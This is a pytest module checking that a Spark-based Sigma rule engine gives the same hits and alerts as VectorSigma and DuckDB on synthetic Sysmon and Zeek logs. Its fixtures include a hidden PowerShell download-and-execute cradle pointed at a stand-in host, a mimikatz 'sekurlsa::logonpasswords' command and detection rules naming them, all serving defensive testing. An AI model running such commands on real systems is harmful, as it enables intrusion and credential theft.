"""Sigma on the Spark engine against VectorSigma: the same hits, ``applied`` and ``blind``, the same alerts.

(a) Windows events (read in Python, evaluated by Spark through Arrow): the Sysmon samples of
``samplegen.sysmon`` with the bundled rules plus hand-written rules covering the modifiers and the
null semantics; the hits are compared as (file, row, rule) with VectorSigma on the very same results.
The same events as flat JSON lines are read by Spark itself and compared as alerts with the DuckDB engine.
(b) Zeek JSON and TSV logs read by Spark (dns, http, conn, a RockNSM-style dns log), a rule per log and a
correlation: alerts, correlations and the summary compared with the DuckDB engine + VectorSigma.

One Spark session for the module; skipped with the reason when pyspark or Java 17+ is missing.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from aptcatch.hunt.engines.duckdb import DuckDBEngine
from aptcatch.hunt.engines.spark import SparkReadResult
from aptcatch.hunt.ioc import IndicatorSet
from aptcatch.hunt.readers import ReadResult
from aptcatch.hunt.sigma import report
from aptcatch.hunt.sigma.correlate import correlate
from aptcatch.hunt.sigma.evaluate import SigmaRun
from aptcatch.hunt.sigma.rules import RuleSet, load_rules
from aptcatch.hunt.sigma.vector import VectorSigma
from aptcatch.rules.sigma_store import bundled_rules_dir
from samplegen import sysmon


def _rule(title: str, detection: str, logsource: str, extra: str = "") -> str:
    body = "\n".join("  " + line for line in detection.strip("\n").splitlines())
    src = "\n".join("  " + line for line in logsource.strip("\n").splitlines())
    head = f"title: {json.dumps(title)}\n{extra}status: test\n"
    return f"{head}logsource:\n{src}\ndetection:\n{body}\nlevel: high\n"


PROC = "product: windows\ncategory: process_creation"
NET = "product: windows\ncategory: network_connection"
WINDOWS_RULES = {
    "contains": ("sel:\n  CommandLine|contains: 'downloadstring('\ncondition: sel", PROC),
    "contains non-ascii": ("sel:\n  CommandLine|contains: 'ärger'\ncondition: sel", PROC),
    "startswith": ("sel:\n  Image|startswith: 'C:\\Users\\'\ncondition: sel", PROC),
    "endswith": ("sel:\n  Image|endswith: '\\rundll32.exe'\ncondition: sel", PROC),
    "like": ("sel:\n  Image: 'C:\\Windows\\Sys*\\cmd.ex?'\ncondition: sel", PROC),
    "regex": ("sel:\n  CommandLine|re: '\\s-[Ee][Nn][Cc]\\s+[A-Z]{4}'\ncondition: sel", PROC),
    "regex i": ("sel:\n  CommandLine|re|i: 'SEKURLSA::\\w+'\ncondition: sel", PROC),
    "cidr": ("sel:\n  DestinationIp|cidr: '192.0.2.0/24'\ncondition: sel", NET),
    "gt": ("sel:\n  DestinationPort|gt: 1024\ncondition: sel", NET),
    "keyword": ("keywords:\n  - 'mimikatz'\ncondition: keywords", PROC),
    "keyword wildcard": ("keywords:\n  - 'sekurlsa*pass'\ncondition: keywords", PROC),
    "not on missing field": (
        "sel:\n  Image|endswith: '.exe'\nfilter:\n  ParentImage|endswith: '\\explorer.exe'\n"
        "condition: sel and not filter",
        PROC,
    ),
    "cased": ("sel:\n  CommandLine|contains|cased: 'IEX'\ncondition: sel", PROC),
    "all": ("sel:\n  CommandLine|contains|all:\n    - '-nop'\n    - 'hidden'\ncondition: sel", PROC),
    "null": ("sel:\n  Image|endswith: '.exe'\n  User: null\ncondition: sel", PROC),
    "exists": ("sel:\n  OriginalFileName|exists: true\n  Image|contains: 'rundll'\ncondition: sel", PROC),
    "fieldref": ("sel:\n  ParentImage|fieldref: Image\ncondition: sel", PROC),
    "one of": (
        "a:\n  Image|endswith: '\\x.exe'\nb:\n  CommandLine|startswith: 'cmd /c who'\ncondition: 1 of *",
        PROC,
    ),
    "blind": ("sel:\n  NoSuchField: 'x'\ncondition: sel", PROC),
    # SigmaHQ has or-lists of thousands of values (Spark's SQL parser overflowed on a flat chain)
    "wide or": (
        "sel:\n  CommandLine|contains:\n"
        + "".join(f"    - 'tool{n:04d}.exe'\n" for n in range(5000))
        + "    - 'WHOAMI'\ncondition: sel",
        PROC,
    ),
}

_PS = "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"
HAND_EVENTS: list[tuple[int, dict[str, Any]]] = [
    (
        1,
        {
            "Image": "C:\\Users\\bob\\AppData\\e.exe",
            "CommandLine": _PS,
            "ParentImage": "C:\\Windows\\explorer.exe",
        },
    ),
    (1, {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami"}),
    (
        1,
        {
            "Image": "C:\\Windows\\SysWOW64\\cmd.exe",
            "CommandLine": "cmd /c iex a",
            "ParentImage": "C:\\Windows\\SysWOW64\\CMD.exe",
        },
    ),
    (
        1,
        {
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "CommandLine": "rundll32 x.dll,Mimikatz",
            "OriginalFileName": "RUNDLL32.EXE",
            "User": "CORP\\bob",
        },
    ),
    (1, {"Image": "C:\\Tools\\x.exe", "CommandLine": "x.exe sekurlsa::logonpasswords -enc AAAA", "User": ""}),
    (
        1,
        {
            "Image": "C:\\Users\\Straße\\Äpp.exe",
            "CommandLine": "ÄRGER über alles",
            "ParentImage": "C:\\Windows\\explorer.exe",
        },
    ),
    (3, {"Image": "C:\\Tools\\x.exe", "DestinationIp": "192.0.2.44", "DestinationPort": 4444}),
    (3, {"Image": "C:\\Tools\\x.exe", "DestinationIp": "198.51.100.1", "DestinationPort": 443}),
    (3, {"Image": "C:\\Tools\\x.exe", "DestinationIp": "192.0.3.1", "DestinationPort": "1025"}),
]


def _hand_events() -> list[dict[str, Any]]:
    start = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)
    return [
        sysmon.to_evtx_json(sysmon.Ev(eid, data), n, start + timedelta(seconds=n))
        for n, (eid, data) in enumerate(HAND_EVENTS, 1)
    ]


def _flat(event: dict[str, Any]) -> dict[str, Any]:
    system = event["Event"]["System"]
    return {"Channel": system["Channel"], "EventID": system["EventID"], **event["Event"]["EventData"]}


def _lines(records: Sequence[dict[str, Any]]) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


@pytest.fixture(scope="module")
def windows(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, RuleSet]:
    root = tmp_path_factory.mktemp("windows")
    samples, _labels = sysmon.write_samples(root / "samples")
    (root / "logs").mkdir()
    samples.rename(root / "logs" / samples.name)
    events = _hand_events()
    (root / "logs" / "hand_a.json").write_text(_lines(events[:4]), encoding="utf-8")
    (root / "logs" / "hand_b.json").write_text(_lines(events[4:]), encoding="utf-8")
    (root / "flat").mkdir()
    (root / "flat" / "flat.jsonl").write_text(_lines([_flat(e) for e in events]), encoding="utf-8")
    rules = root / "rules"
    rules.mkdir()
    for n, (title, (detection, logsource)) in enumerate(WINDOWS_RULES.items()):
        (rules / f"r{n:02d}.yml").write_text(_rule(title, detection, logsource), encoding="utf-8")
    ruleset = load_rules([bundled_rules_dir(), rules], pipeline="windows", use_cache=False)
    assert not ruleset.failures, ruleset.failures
    return root, ruleset


def _hits(run: SigmaRun, ruleset: RuleSet) -> list[tuple[int, int, str]]:
    return sorted((h.file_id, h.row, ruleset.rules[h.rule].id) for h in run.hits)


def _titles(run: SigmaRun, ruleset: RuleSet, results: Sequence[ReadResult]) -> dict[str, set[str]]:
    """Rule title -> the raw text of the hand-written events it matched."""
    out: dict[str, set[str]] = {}
    for h in run.hits:
        if not results[h.file_id].path.name.startswith(("hand", "flat")):
            continue
        raw = results[h.file_id].original([h.row])[0] or ""
        out.setdefault(ruleset.rules[h.rule].title, set()).add(raw)
    return out


def test_windows_hits_identical_to_vector_sigma(spark_engine: Any, windows: tuple[Path, RuleSet]) -> None:
    root, ruleset = windows
    results = spark_engine.read([str(root / "logs")]).results
    assert len(results) == 3 and not any(isinstance(r, SparkReadResult) for r in results)
    want = VectorSigma(ruleset.rules).run(results)
    got = spark_engine.run_sigma(results, ruleset.rules)
    assert _hits(got, ruleset) == _hits(want, ruleset)
    assert got.applied == want.applied
    assert got.blind == want.blind
    # the hand-written rules each fire where they should (so the comparison is not of two empty sets)
    fired = _titles(got, ruleset, results)
    cmd = {t: {json.loads(o)["Event"]["EventData"].get("CommandLine") for o in v} for t, v in fired.items()}
    assert cmd["cased"] == {_PS}
    assert cmd["keyword"] == {"rundll32 x.dll,Mimikatz"}
    assert cmd["keyword wildcard"] == {"x.exe sekurlsa::logonpasswords -enc AAAA"}
    assert cmd["contains non-ascii"] == {"ÄRGER über alles"}
    assert cmd["like"] == {"cmd /c whoami", "cmd /c iex a"}
    assert cmd["regex"] == cmd["regex i"] == {"x.exe sekurlsa::logonpasswords -enc AAAA"}
    assert cmd["fieldref"] == {"cmd /c iex a"}
    assert cmd["wide or"] == {"cmd /c whoami"}
    commands = {d["CommandLine"] for eid, d in HAND_EVENTS if eid == 1}
    assert cmd["null"] == commands - {"rundll32 x.dll,Mimikatz"}  # missing or empty User
    assert len(fired["cidr"]) == 1 and len(fired["gt"]) == 2
    assert {"cmd /c whoami", "rundll32 x.dll,Mimikatz"} <= cmd["not on missing field"]
    assert _PS not in cmd["not on missing field"]
    blind = {ruleset.rules[i].title for i in got.blind}
    assert "blind" in blind
    bundled = {r.id for r in ruleset.rules if r.path.startswith(str(bundled_rules_dir()))}
    assert len(bundled) == 16 and bundled <= {ruleset.rules[h.rule].id for h in got.hits}


def _alerts(engine: Any, sources: list[str], ruleset: RuleSet, fmt: str | None = None) -> Any:
    """What ``aptcatch hunt`` does: read, sweep (nothing to find), Sigma, correlations, alerts, summary."""
    results = engine.read(sources, fmt).results
    engine.sweep_iocs(results, IndicatorSet())
    run = engine.run_sigma(results, ruleset.rules)
    corr = correlate(ruleset.correlations, ruleset.rules, run.hits, results)
    alerts = report.alerts(ruleset, run, corr, results)
    key = json.dumps
    return results, run, corr, sorted(alerts, key=lambda a: key(a, sort_keys=True))


def test_flat_json_read_by_spark_alerts_like_duckdb(spark_engine: Any, windows: tuple[Path, RuleSet]) -> None:
    root, ruleset = windows
    flat = [str(root / "flat")]
    s_results, s_run, _, s_alerts = _alerts(spark_engine, flat, ruleset, "json")
    d_results, d_run, _, d_alerts = _alerts(DuckDBEngine(), flat, ruleset, "json")
    assert isinstance(s_results[0], SparkReadResult)
    assert s_alerts == d_alerts and len(s_alerts) > 10
    assert s_run.applied == d_run.applied and s_run.blind == d_run.blind
    assert s_results[0].rows == d_results[0].rows == len(HAND_EVENTS)


def _j(**rec: Any) -> str:
    return json.dumps(rec, separators=(",", ":")) + "\n"


ZEEK = {
    "dns.log": _j(
        ts=1588205198.5, uid="D1", **{"id.orig_h": "10.0.1.4", "id.orig_p": 53}, query="a.evil.example"
    )
    + _j(ts=1588205199.5, uid="D2", **{"id.orig_h": "10.0.1.4"}, query="b.Evil.Example", qtype_name="TXT")
    + _j(ts=1588205200.5, uid="D3", **{"id.orig_h": "10.0.2.9"}, query="ok.example", rcode_name=None)
    + "{not json\n",
    "rock_dns.json": _j(ts=1588205201.5, uid="D4", _path="dns", id_orig_h="10.0.1.7", query="c.evil.example")
    + _j(ts=1588205202.5, uid="D5", _path="dns", id_orig_h="10.9.9.9", query="fine.example"),
    "http.json": _j(
        ts=1588205300.1,
        uid="H1",
        **{"id.orig_h": "10.0.0.10"},
        method="POST",
        host="x.test",
        uri="/payload.bin",
        user_agent="curl/8.0",
    )
    + _j(
        ts=1588205301.1,
        uid="H2",
        **{"id.orig_h": "10.0.0.11"},
        method="POST",
        host="x.test",
        uri="/up",
        user_agent="Mozilla/5.0",
    )
    + _j(
        ts=1588205302.1,
        uid="H3",
        **{"id.orig_h": "10.0.0.12"},
        method="POST",
        host="x.test",
        uri="/cmd?whoami",
    )
    + _j(
        ts=1588205303.1,
        uid="H4",
        **{"id.orig_h": "10.0.0.12"},
        method="GET",
        host="X.TEST",
        uri="/Payload.BIN",
    ),
    "conn.log": _j(
        ts=1588205400.0, uid="C1", **{"id.orig_h": "10.0.0.9", "id.resp_h": "192.0.2.1"}, proto="tcp"
    )
    + _j(ts=1588205401.0, uid="C2", **{"id.orig_h": "10.0.0.9", "id.resp_h": "192.0.2.2"}, proto="udp"),
    "dns_tsv.log": "#separator \\x09\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tquery\tqtype_name\n"
    "1588205500.0\tD6\t10.0.1.5\td.evil.example\tA\n1588205501.0\tD7\t10.0.1.5\tok.example\t-\n",
}

ZEEK_RULES = {
    "evil dns": (
        "sel:\n  query|endswith: '.evil.example'\n  id.orig_h|cidr: '10.0.0.0/8'\ncondition: sel",
        "product: zeek\nservice: dns",
        "name: evil_dns\n",
    ),
    "dns without type": ("sel:\n  query|contains: 'example'\n  qtype_name: null\ncondition: sel",
                         "product: zeek\nservice: dns", ""),
    "http payload": ("sel:\n  uri|contains: '/payload'\ncondition: sel", "product: zeek\nservice: http", ""),
    "http post not browser": (
        "sel:\n  method: POST\nfilter:\n  user_agent|startswith: 'Mozilla/'\ncondition: sel and not filter",
        "product: zeek\nservice: http",
        "",
    ),
    "http keyword": ("keywords:\n  - 'whoami'\ncondition: keywords", "product: zeek\nservice: http", ""),
    "every conn": ("sel:\n  event.dataset: zeek.conn\ncondition: sel", "product: zeek\nservice: conn", ""),
    "conn blind": ("sel:\n  history: 'ShADad'\ncondition: sel", "product: zeek\nservice: conn", ""),
}  # fmt: skip

CORRELATION = """title: repeated evil dns
status: test
correlation:
  type: event_count
  rules:
    - evil_dns
  group-by:
    - id.orig_h
  timespan: 1h
  condition:
    gte: 2
level: high
"""


@pytest.fixture(scope="module")
def zeek(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, RuleSet]:
    root = tmp_path_factory.mktemp("zeek")
    (root / "logs").mkdir()
    for name, text in ZEEK.items():
        (root / "logs" / name).write_text(text, encoding="utf-8")
    rules = root / "rules"
    rules.mkdir()
    for n, (title, (detection, logsource, extra)) in enumerate(ZEEK_RULES.items()):
        (rules / f"r{n:02d}.yml").write_text(_rule(title, detection, logsource, extra), encoding="utf-8")
    (rules / "corr.yml").write_text(CORRELATION, encoding="utf-8")
    ruleset = load_rules([rules], pipeline="windows", use_cache=False)
    assert not ruleset.failures, ruleset.failures
    return root, ruleset


def _uid(original: str) -> str:
    try:
        return str(json.loads(original)["uid"])
    except ValueError:
        return original.split("\t")[1]  # a TSV line


def test_zeek_read_by_spark_alerts_like_duckdb(spark_engine: Any, zeek: tuple[Path, RuleSet]) -> None:
    root, ruleset = zeek
    logs = [str(root / "logs")]
    s_results, s_run, s_corr, s_alerts = _alerts(spark_engine, logs, ruleset)
    _, d_run, d_corr, d_alerts = _alerts(DuckDBEngine(), logs, ruleset)
    assert all(isinstance(r, SparkReadResult) for r in s_results)
    assert s_alerts == d_alerts
    assert s_run.applied == d_run.applied and s_run.blind == d_run.blind
    assert report.summary(ruleset, s_run, s_alerts) == report.summary(ruleset, d_run, d_alerts)
    assert [(c.correlation, c.group, c.count) for c in s_corr] == [
        (c.correlation, c.group, c.count) for c in d_corr
    ]
    fired: dict[str, set[str]] = {}
    for h in s_run.hits:  # the correlation's base rule does not alert alone: read its hits
        original = s_results[h.file_id].original([h.row])[0]
        fired.setdefault(ruleset.rules[h.rule].title, set()).add(_uid(original))
    assert "evil dns" not in {a["rule.name"] for a in s_alerts}
    assert fired["evil dns"] == {"D1", "D2", "D4", "D6"}  # D4: RockNSM's id_orig_h read as id.orig_h
    assert fired["dns without type"] == {"D1", "D3", "D4", "D5", "D7"}  # D7: TSV's unset '-'

    assert fired["http payload"] == {"H1", "H4"}
    assert fired["http post not browser"] == {"H1", "H3"}  # H3 has no user_agent: not filtered
    assert fired["http keyword"] == {"H3"}
    assert fired["every conn"] == {"C1", "C2"}
    assert {c.group for c in s_corr} == {(("id.orig_h", "10.0.1.4"),)}
    assert [ruleset.rules[i].title for i in s_run.blind] == ["conn blind"]
